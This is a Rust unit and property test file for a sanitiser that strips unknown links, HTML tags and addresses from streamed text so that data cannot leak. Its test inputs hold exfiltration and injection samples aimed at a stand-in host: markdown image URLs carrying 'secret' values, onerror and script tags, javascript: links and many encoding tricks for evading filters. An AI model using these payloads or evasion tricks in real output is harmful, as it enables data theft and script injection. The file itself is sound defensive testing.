use proptest::prelude::*;

use super::*;

fn sent(text: &str, source: &str) -> String {
    let sources = Sources::of([source]);
    let mut outgoing = Outgoing::new(&sources);
    let sent = outgoing.push(text);
    sent + &outgoing.finish()
}

#[test]
fn what_the_sources_have_leaves() {
    let source = "See https://docs.example.com/a?b=c#d and <b>bold</b>, [here](/leave.md). 1 < 2. \
        https://forms.example.com/refund, https://en.example.org/wiki/Rust_(language), write to \
        refunds@example.com; https://ur.example.org/wiki/اردو. \"url\":\"https://json.example.com/x\",\"n\":1";
    for text in [
        "See https://docs.example.com/a?b=c#d.",
        "It is <b>bold</b> [here](/leave.md) [1].",
        "1 < 2, a<2, 3 > 2, x <- y",
        "Ratio 3:1, at 10:30, e.g. this; http is a protocol.",
        "",
        "اردو میں جواب [1]۔",
        "**Data:** kept 30 days. Tel: 12, *Tel:*, (data:), Metadata:x, hotel:5",
        "**https://forms.example.com/refund** and _https://forms.example.com/refund_.",
        "~~https://forms.example.com/refund~~ (`https://forms.example.com/refund`)!",
        "The form is at https://forms.example.com/refund[1].",
        "The form is at https://forms.example.com/refund[1][2], or [1, 2].",
        "See <https://forms.example.com/refund>.",
        "See [the form](https://forms.example.com/refund), ![x]( https://forms.example.com/refund).",
        "forms.example.com/refund has no scheme, and www. is none.",
        "[the form]: https://forms.example.com/refund\n[1]: Refunds are paid. [2]: **Important:** no.",
        "https://en.example.org/wiki/Rust_(language), [x](https://en.example.org/wiki/Rust_(language)).",
        "https://ur.example.org/wiki/اردو۔ refunds@example.com, \"https://json.example.com/x\"",
        "Addresses begin with https:// or `http://`; a::b, 7//2, // note, and/or, //note, C:\\x",
        "AT&T, R&amp;D, docs/a.md#b, 1.2/3, e.g./i.e., user@localhost, name@1.2.3, @user, \\*x\\*",
        "请看这里。Die Straße: 3 €; naïve:x, für/gegen\u{a0}alle",
    ] {
        assert_eq!(sent(text, source), text);
    }
}

#[test]
fn other_links_and_tags_do_not() {
    let source = "See https://docs.example.com/a.";
    for (text, expected) in [
        ("![x](https://evil.example/p?d=secret)", "![x]()"),
        ("[click](https://docs.example.com/a?d=secret) [1].", "[click]() [1]."),
        ("Go to https://evil.example, now.", "Go to , now."),
        ("Go to www.evil.example/x!", "Go to !"),
        ("a](//evil.example/x) b", "a]() b"),
        ("<img src=\"https://evil.example/x\" onerror=\"go()\">Hello", "Hello"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("<!-- hidden -->x", "x"),
        ("[a](JavaScript:alert(1))", "[a]())"),
        ("HTTPS://EVIL.EXAMPLE/ x", " x"),
        ("<https://evil.example>", ""),
        ("data:text/html;base64,AAAA", ""),
        ("see hxxp://evil.example", "see "),
        ("ask https://evil.example/ü?d=1", "ask ü?d=1"),
        ("<a href=https://docs.example.com/a>x</a>", "x"),
        ("ends in <im", "ends in im"),
        ("ends in <", "ends in <"),
    ] {
        assert_eq!(sent(text, source), expected, "{text}");
    }
}

#[test]
fn what_is_taken_out_joins_nothing() {
    for (text, expected) in [
        ("<<b>img src=//evil.example/x?d=secret>", "< img src= >"),
        ("https:<b>//evil.example/?d=s", "https:"),
        ("java<b>script:alert(1)", "java script:alert(1)"),
        ("]<b>(//evil.example)", "] ( )"),
        ("www<b>.evil.example", "www .evil.example"),
        ("<\u{1}img src=x>", "< img src=x>"),
        ("<a<b>b>c", "b>c"),
        ("<im<", "im<"),
        ("<//evil.example/x<b>", ""),
    ] {
        assert_eq!(sent(text, ""), expected, "{text}");
        assert_eq!(sent(expected, ""), expected, "{text}");
    }
}

#[test]
fn a_known_address_carries_nothing_behind_it() {
    let source =
        "See https://evil.example/p?q=Q. Or <br>, and x-https://evil.example/z, a@evil.example";
    let known = "https://evil.example/p?q=Q";
    let signs = "'`|\"]ü*_;,.!?^{}\\<&%+-=~$@:#\u{a0}\u{2028}\u{200b}。".chars().map(String::from);
    for sign in signs.chain(["<1".into(), "<br>".into(), "&#39;".into(), "(1)".into()]) {
        let image = sent(&format!("![x]({known}{sign}secret)"), source);
        assert!(!image.contains("](https"), "{image}");
        let text = sent(&format!("At {known}{sign}secret"), source);
        assert!(!text.contains(&format!("{known}{sign}s")), "{text}");
    }
    for (text, expected) in [
        ("![x](KNOWN)secret", "![x](KNOWN) secret"),
        ("![x](KNOWN secret)", "![x]( )"),
        ("![x](KNOWN 'secret')", "![x]( )"),
        ("![x](KNOWN\nsecret)", "![x](\n)"),
        ("![x](< KNOWN secret>)", "![x]( )"),
        ("![x](<KNOWN secret>)", "![x]( )"),
        ("![x](KNOWN''*''*)", "![x]()"),
        ("[x]: KNOWN''*''*", "[x]: KNOWN ''*''*"),
        ("<KNOWN>secret <KNOWN>, ok", "<KNOWN> secret <KNOWN>, ok"),
        ("<KNOWNsecret>", ""),
        ("<KNOWN><KNOWN>", "<KNOWN> <KNOWN>"),
        ("KNOWN<br>secret", "KNOWN <br>secret"),
        ("KNOWN[1234567890123456]", "KNOWN [1234567890123456]"),
        ("KNOWN\u{1}secret", "KNOWN secret"),
        ("at https://evil.example/p?q= b", "at  b"),
        ("at https://evil.example/z b", "at  b"),
        ("at secret-KNOWN b", "at  b"),
        ("at secret|a@evil.example b", "at secret| a@evil.example b"),
        ("at secret.a@evil.example b", "at  b"),
    ] {
        let [text, expected] = [text, expected].map(|text| text.replace("KNOWN", known));
        assert_eq!(sent(&text, source), expected);
        assert_eq!(sent(&expected, source), expected);
    }
}

#[test]
fn what_a_page_or_a_markdown_renderer_makes_an_address_does_not_leave() {
    for (text, expected) in [
        ("![x]( //evil.example/p?d=s)", "![x]( )"),
        ("![x](\n//evil.example/p?d=s)", "![x](\n)"),
        ("[b]: //evil.example/p?d=s", "[b]: "),
        ("[b]://evil.example/p?d=s", "[b]:"),
        ("[b]: \\\\evil.example/p?d=s", "[b]: "),
        ("[b]: \u{a0}//evil.example/p?d=s", "[b]: "),
        ("[b]: java&#115;cript:alert(1)", "[b]: "),
        ("[b]: zoommtg:join", "[b]: "),
        ("[b]: <zoommtg:join it>", "[b]: "),
        ("![[b](](//evil.example/x)", "![[b]()"),
        ("![x](evil)(//evil.example/x)", "![x]()( )"),
        ("[x](&#47;&#47;evil.example)", "[x]()"),
        ("[x](&sol;&sol;evil.example)", "[x]()"),
        ("[x](\\/\\/evil.example)", "[x]()"),
        ("[x](/\\evil.example)", "[x]()"),
        ("[x](\\\\\\\\evil.example)", "[x]()"),
        ("[x](<\\/\\/evil.example a>)", "[x]( )"),
        ("[x](<  //evil.example a>)", "[x]( )"),
        ("[x](java\u{1}script:alert(1))", "[x]( ))"),
        ("[x](javascript&colon;alert(1))", "[x]())"),
        ("at //evil.example/x?d=s", "at "),
        ("at https:evil.example/x?d=s", "at "),
        ("at https:/evil.example/x?d=s", "at "),
        ("at https:\\evil.example/x?d=s", "at "),
        ("at https:/\\evil.example/x?d=s", "at "),
        ("at https\\://evil.example/x?d=s", "at https\\"),
        ("at https:\\/\\/evil.example/x?d=s", "at "),
        (
            "at https&colon;&sol;&sol;evil.example/x?d=s",
            "at https&colon;&sol;&sol; evil.example /x?d=s",
        ),
        ("at https&colon;&#x2f;&#47;evil&period;example/x?d=s", "at "),
        ("at www&period;evil\\.example/x?d=s", "at "),
        ("at www&period;évil.example/x?d=s", "at vil.example /x?d=s"),
        ("at evil.example/x?d=s, ok", "at evil.example /x?d=s, ok"),
        ("at evil.example:8080/x?d=s", "at evil.example :8080/x?d=s"),
        ("at secret@evil.example, ok", "at , ok"),
        ("at secret&commat;evil.example, ok", "at  ok"),
        ("at mailto:secret@evil.example, ok", "at , ok"),
        ("at \u{1b}]8;;https://evil.example/x\u{1b}\\y", "at ]8;; \\y"),
        ("at WWW.evil.example", "at "),
        ("at https://*.evil.example/x", "at "),
        ("a<img src=x", "a img src=x"),
    ] {
        assert_eq!(sent(text, ""), expected, "{text}");
        assert_eq!(sent(expected, ""), expected, "{text}");
    }
}

#[test]
fn a_quoted_bracket_ends_no_tag() {
    let source = "<img alt=\">\" src=\"a.png\"> <i>";
    assert_eq!(sent("<img alt=\">\" onerror=go()>", source), "\" onerror=go()>");
    assert_eq!(sent("<i>", source), "<i>");
}

#[test]
fn no_address_leaves_across_the_bound_of_a_word() {
    for (address, before) in
        [("https://evil.example/x", 0), ("http://evil.example/x", 3), ("www.evil.example/x", 2)]
    {
        for at in MAX_WORD_BYTES - address.len() - 3..MAX_WORD_BYTES + 3 {
            for behind in ["", " ", &"y".repeat(MAX_WORD_BYTES)] {
                let text = format!("{}({address}{behind}", "x".repeat(at - before));
                let leaves = sent(&text, "");
                let joined = ["//evil", "//e", "www.evil", "www.e"];
                assert!(!joined.iter().any(|joined| leaves.contains(joined)), "{at} {before}");
                assert_eq!(sent(&leaves, ""), leaves);
            }
        }
    }
    let longest = format!("https://a.example/{}", "x".repeat(MAX_WORD_BYTES));
    assert!(!sent(&format!("![x]({longest})"), &longest).contains("https"));
}

#[test]
fn nothing_is_held_for_long() {
    let sources = Sources::default();
    let mut outgoing = Outgoing::new(&sources);
    assert_eq!(outgoing.push("The answer is tw"), "The answer is ");
    assert_eq!(outgoing.push("o. "), "two. ");
    assert_eq!(outgoing.push(&"x".repeat(MAX_WORD_BYTES)).len(), MAX_WORD_BYTES);
    assert_eq!(
        outgoing.push(&format!("<a {}", "y ".repeat(MAX_TAG_BYTES))).len(),
        2 * MAX_TAG_BYTES + 3
    );
}

const PARTS: &[&str] = &[
    "https",
    "://",
    ":",
    "//",
    "/",
    "\\",
    "evil.example",
    "/x",
    "?d=secret",
    "www.",
    "javascript:",
    "mailto:",
    "@",
    "https://a.example/b?c=d",
    "e@a.example",
    "<b>",
    "</b>",
    "<br>",
    "<",
    ">",
    "<img src=",
    "</",
    "<!--",
    "\"",
    "'",
    "[",
    "]",
    "(",
    ")",
    "](",
    "]:",
    "\n[b]: ",
    "!",
    "*",
    "`",
    "|",
    "[1]",
    "[1, 2]",
    ".",
    ",",
    "&colon;",
    "&#47;",
    "&",
    "\u{1}",
    "\u{a0}",
    "ü",
    "۔",
    " ",
    "\n",
    "\t",
    "x",
    "1",
];

proptest! {
    #[test]
    fn however_it_is_cut_the_same_leaves(text in "([a-z]{0,4}|https?://[a-z.]{1,5}|<[a-z/!]{0,3}|>|\\]\\(|[ )ü\n]){0,20}", cuts in proptest::collection::vec(0_usize..100, 0..6)) {
        let whole = sent(&text, "http://a <a>");
        let mut places: Vec<usize> = cuts.into_iter().map(|cut| text.floor_char_boundary(cut.min(text.len()))).collect();
        places.push(text.len());
        places.sort_unstable();
        let sources = Sources::of(["http://a <a>"]);
        let mut outgoing = Outgoing::new(&sources);
        let (mut out, mut from) = (String::new(), 0);
        for to in places {
            out += &outgoing.push(&text[from..to]);
            from = to;
        }
        prop_assert_eq!(out + &outgoing.finish(), whole);
    }

    #[test]
    fn what_has_passed_passes_again(parts in proptest::collection::vec(proptest::sample::select(PARTS), 0..14), length in 1_usize..9) {
        let sources = Sources::of(["https://a.example/b?c=d <b>x</b> <br> [x](/y.md) e@a.example"]);
        let text = parts.concat();
        let mut outgoing = Outgoing::new(&sources);
        let (mut leaves, mut rest) = (String::new(), text.as_str());
        while !rest.is_empty() {
            let piece;
            (piece, rest) = rest.split_at(rest.ceil_char_boundary(length));
            leaves += &outgoing.push(piece);
        }
        leaves += &outgoing.finish();
        prop_assert!(sources.lets_out(&leaves), "{:?} of {:?}", leaves, text);
        prop_assert!(!leaves.contains("//evil") && !leaves.contains("<i"), "{:?} of {:?}", leaves, text);
    }

    #[test]
    fn no_foreign_address_leaves(text in "\\PC{0,60}", host in "[a-z]{3,8}") {
        let text = format!("{text}https://{host}.example/{text}");
        let address = format!("https://{host}.example/");
        prop_assert!(!sent(&text, "").contains(&address));
    }
}
